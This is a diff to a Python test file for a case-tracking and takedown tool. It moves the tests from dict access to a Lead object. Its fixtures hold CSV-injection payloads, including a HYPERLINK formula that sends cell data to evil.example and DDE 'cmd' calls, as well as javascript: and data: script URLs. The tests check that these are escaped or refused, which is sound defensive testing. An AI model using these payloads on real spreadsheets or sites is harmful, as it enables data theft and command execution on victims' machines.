@@ -15,6 +15,7 @@ from casework.config import load_takedown_config
 from casework.console.app import create_app
 from casework.export import safe_cell
 from casework.takedown import request_takedowns
+from core.lead import Lead
 from lantian.cli import app
 from tests.fixtures.casework import casework_env, detection, listing, store, users_file  # noqa: F401  (fixtures)
 from tests.test_casework_console import _login
@@ -24,11 +25,11 @@ FORMULAS = {"title": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "s
             "location": "-2+3+cmd|' /C calc'!A0", "text": "@SUM(1+1)*cmd|' /C calc'!A0"}
 
 
-def _confirmed(store: Any, n: int, **fields: Any) -> dict[str, Any]:
+def _confirmed(store: Any, n: int, **fields: Any) -> Lead:
     item = {**listing(n, platform="market"), **fields}
     lead = store.upsert(item, detection(item, phone="+8613800001111"))
-    workflow.set_status(store, lead["id"], "reviewing", by="alice")
-    return workflow.set_status(store, lead["id"], "confirmed", by="alice", why="证据充分")
+    workflow.set_status(store, lead.id, "reviewing", by="alice")
+    return workflow.set_status(store, lead.id, "confirmed", by="alice", why="证据充分")
 
 
 def _rows(data: str) -> list[list[str]]:
@@ -55,7 +56,7 @@ def test_cases_export_csv(store: Any, tmp_path: Path) -> None:
     assert result.exit_code == 0, result.output
     rows = _rows(out.read_text(encoding="utf-8-sig"))
     _assert_no_formula(rows)
-    assert "'" + FORMULAS["title"] in rows[0] and "'" + FORMULAS["location"] in rows[0] and lead["id"] in rows[0]
+    assert "'" + FORMULAS["title"] in rows[0] and "'" + FORMULAS["location"] in rows[0] and lead.id in rows[0]
 
 
 def test_console_csv_export(store: Any, users_file: Path) -> None:
@@ -74,14 +75,14 @@ def test_takedown_url_csv_and_only_web_urls(store: Any, tmp_path: Path) -> None:
     script = _confirmed(store, 2, url="javascript:alert(document.cookie)//http://127.0.0.1:9/item.htm")
     data = _confirmed(store, 3, url="data:text/html,<script>alert(1)</script>")
     result = request_takedowns(store, "market", load_takedown_config(), tmp_path, by="root")
-    assert result is not None and result.moved == [good["id"]]
-    assert [reason.split(":")[0] for reason in result.refused] == [script["id"], data["id"]]
+    assert result is not None and result.moved == [good.id]
+    assert [reason.split(":")[0] for reason in result.refused] == [script.id, data.id]
     assert "'javascript:alert(document.cookie)//http://127.0.0.1:9/item.htm' is not an http(s) URL" \
         in result.refused[0]
-    assert store.get(script["id"])["status"] == "confirmed"
+    assert store.get(script.id).status == "confirmed"
     rows = _rows(result.files["csv"].read_text(encoding="utf-8-sig"))
     _assert_no_formula(rows)
-    assert [row[0] for row in rows] == [good["url"]] and rows[0][1] == "'" + FORMULAS["title"]
+    assert [row[0] for row in rows] == [good.url] and rows[0][1] == "'" + FORMULAS["title"]
 
 
 def test_takedown_command_with_only_refused_urls(store: Any, tmp_path: Path) -> None:
@@ -89,5 +90,5 @@ def test_takedown_command_with_only_refused_urls(store: Any, tmp_path: Path) -> 
     out = tmp_path / "takedowns"
     result = CliRunner().invoke(app, ["takedown", "--platform", "market", "--out", str(out)])
     assert result.exit_code == 0, result.output
-    assert f"skipped {lead['id']}: 'javascript:alert(1)' is not an http(s) URL" in result.output
-    assert not out.exists() and store.get(lead["id"])["status"] == "confirmed"
+    assert f"skipped {lead.id}: 'javascript:alert(1)' is not an http(s) URL" in result.output
+    assert not out.exists() and store.get(lead.id).status == "confirmed"
